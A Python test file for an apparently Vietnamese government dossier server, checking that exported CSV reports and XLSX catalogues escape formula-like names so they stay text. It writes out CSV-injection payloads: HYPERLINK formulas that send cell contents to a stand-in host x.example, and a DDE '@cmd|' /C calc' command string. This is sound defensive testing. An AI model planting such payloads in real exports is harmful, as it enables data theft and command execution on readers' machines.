"""What the server hands out as files (the reports' CSV, the catalogue's spreadsheet): a name or
reason a citizen or an officer typed that starts like a formula is written as text, never as a
formula the supervisor's spreadsheet would run (CSV injection)."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import uuid
from typing import Any

import httpx
import openpyxl

from onestop import calendar
from tests import live
from tests.server.checks import DOSSIER

APPLICANT = '=HYPERLINK("http://x.example/?"&E6,"Xem")'
OFFICER = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'
PROCEDURE = "+SUM(1,2) Cấp phiếu lý lịch"
AGENCY = "@SUM(A1) Sở Tư pháp"
FIELD = '=HYPERLINK("http://x.example/","Lý lịch tư pháp")'
DOCUMENT = "-2+3 Tờ khai"
ADDRESS = "-1+1 Phường Việt Trì"
REASON = "@cmd|' /C calc'!A0 Phải chờ lâu"
DAY = dt.date(2026, 11, 24)


@dataclasses.dataclass(frozen=True)
class HostileDay:
    """A day's work whose names and reasons all start like a formula, made through the API."""

    code: str
    procedure_id: int
    officer_id: int


def ok(reply: httpx.Response, status: int = 200) -> Any:
    assert reply.status_code == status, reply.text
    return reply.json()


def _edit(admin: httpx.Client, kind: str, item_id: int, **changes: Any) -> None:
    current = ok(admin.get(f"/admin/{kind}/{item_id}"))
    body = {
        k: v for k, v in current.items() if k not in ("id", "last_seen_at", "fault", "status", "officer_id")
    }
    ok(admin.put(f"/admin/{kind}/{item_id}", json=body | changes))


def hostile_day(server: live.LiveServer) -> HostileDay:
    """canbo1 renamed, procedure 1 (and its agency, its first paper) renamed, then a dossier of
    it received, returned and rated "not satisfied" on DAY, with a hostile name and reason."""
    admin = server.user("admin")
    officer_id = next(u["id"] for u in ok(admin.get("/admin/users")) if u["username"] == "canbo1")
    _edit(admin, "users", officer_id, full_name=OFFICER)
    procedure = ok(admin.get("/admin/procedures/1"))
    documents = [{**procedure["documents"][0], "name": DOCUMENT}, *procedure["documents"][1:]]
    _edit(admin, "procedures", 1, name=PROCEDURE, documents=documents)
    field = ok(admin.get(f"/admin/fields/{procedure['field_id']}"))
    _edit(admin, "fields", field["id"], name=FIELD)
    _edit(admin, "agencies", field["agency_id"], name=AGENCY)
    server.clock.set(dt.datetime.combine(DAY, dt.time(9, 0), tzinfo=calendar.VN_TZ))
    canbo = server.user("canbo1")
    applicant = {**DOSSIER["applicant"], "full_name": APPLICANT, "address": ADDRESS}
    body = {**DOSSIER, "procedure_id": 1, "applicant": applicant}
    code = ok(canbo.post("/dossiers", json=body, headers={"Idempotency-Key": uuid.uuid4().hex}), 201)["code"]
    ok(canbo.post(f"/dossiers/{code}/ready"))
    ok(canbo.post(f"/dossiers/{code}/return", json={"returned_to": APPLICANT}))
    ok(canbo.post(f"/dossiers/{code}/rating", json={"level": "khong_hai_long", "reason": REASON}))
    return HostileDay(code=code, procedure_id=1, officer_id=officer_id)


def csv_rows(reply: httpx.Response) -> list[list[str]]:
    assert reply.status_code == 200, reply.text
    return list(csv.reader(io.StringIO(reply.content.decode("utf-8-sig"))))


def test_the_reports_csv_quotes_names_that_start_like_a_formula(server: live.LiveServer) -> None:
    hostile_day(server)
    supervisor, day = server.user("giamsat"), {"start": f"{DAY}", "end": f"{DAY}", "format": "csv"}
    by_officer = csv_rows(supervisor.get("/reports/satisfaction", params=day | {"group_by": "officer"}))
    names = {row[1]: row for row in by_officer[1:]}
    assert names["'" + OFFICER][2:6] == ["0", "0", "1", "1"]  # numbers stay numbers
    by_procedure = csv_rows(supervisor.get("/reports/dossiers", params=day | {"group_by": "procedure"}))
    assert "'" + PROCEDURE in [row[1] for row in by_procedure]
    by_agency = csv_rows(supervisor.get("/reports/dossiers", params=day | {"group_by": "agency"}))
    assert "'" + AGENCY in [row[1] for row in by_agency]
    by_field = csv_rows(supervisor.get("/reports/satisfaction", params=day | {"group_by": "field"}))
    assert "'" + FIELD in [row[1] for row in by_field]
    replies = (by_officer, by_procedure, by_agency, by_field)
    every_cell = [cell for reply in replies for row in reply for cell in row]
    assert not [cell for cell in every_cell if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [cell for cell in every_cell if cell.startswith("-") and not _number(cell)]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def formulas(book: Any) -> list[str]:
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def text_cell(book: Any, value: str) -> Any:
    """The one cell holding ``value``, checked to be text that stays text when edited."""
    (cell,) = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value == value]
    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    return cell


def test_the_catalogue_spreadsheet_holds_formula_like_names_as_text(server: live.LiveServer) -> None:
    hostile_day(server)
    admin = server.user("admin")
    exported = admin.get("/admin/catalogue", params={"format": "xlsx"})
    assert exported.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(exported.content))
    assert formulas(book) == []
    assert text_cell(book, PROCEDURE).parent.title == "Thủ tục"
    assert text_cell(book, AGENCY).parent.title == "Cơ quan"
    assert text_cell(book, DOCUMENT).parent.title == "Giấy tờ"
    assert text_cell(book, FIELD).parent.title == "Lĩnh vực"
    assert book["Thủ tục"]["E2"].data_type == "n"  # a fee stays a number
    # And it loads back as it went out: the names as they were typed, nothing changed.
    reply = admin.post(
        "/admin/catalogue",
        content=exported.content,
        headers={"Content-Type": exported.headers["content-type"]},
    )
    assert reply.status_code == 200, reply.text
    assert sum(reply.json()["updated"].values()) == 0
    assert ok(admin.get("/admin/procedures/1"))["name"] == PROCEDURE
